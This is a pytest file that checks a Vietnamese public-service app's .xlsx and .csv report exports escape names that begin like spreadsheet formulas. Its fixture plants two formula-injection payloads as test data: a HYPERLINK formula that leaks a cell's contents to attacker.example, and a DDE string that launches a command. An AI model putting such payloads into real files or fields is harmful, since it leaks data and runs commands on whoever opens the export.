"""Biểu 06 as .xlsx (API, CLI) and .csv: catalog and unit names that begin like a formula are
written as text (issue 17 §6: a field named ``=…`` went into tthc.xlsx as a live formula and
into bieu06.csv unescaped)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests.reports.conftest import vn

MARCH = {"from": "2026-03-01", "to": "2026-03-31"}
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Xem chi tiết")'


@pytest.fixture
def poisoned(make_dossier):
    from motcua.catalog.models import Unit

    dossier = make_dossier(unit="YB.LY.YT", received_at=vn("2026-03-02 08:00"), due_at=vn("2026-03-04 17:00"))
    field = dossier.procedure.field
    field.name = FORMULA
    field.save()
    Unit.objects.filter(code="YB.LY.YT").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    return dossier


def test_the_xlsx_has_no_formula_and_shows_the_name_as_text(api_as, poisoned):
    r = api_as("lanhdao.yt").get("/reports/tthc.xlsx", {"unit": "YB.LY.YT", **MARCH})
    assert r.status_code == 200, r.content
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_csv_writes_the_field_name_behind_an_apostrophe(client, poisoned):
    from motcua.accounts.models import User

    client.force_login(User.objects.get(username="lanhdao.yt"))
    r = client.get("/can-bo/bao-cao/bieu06.csv", {"unit": "YB.LY.YT", **MARCH})
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert [row["field_name"] for row in rows if row["field_name"] != "Tổng cộng"] == ["'" + FORMULA]
    assert not [v for row in rows for v in row.values() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
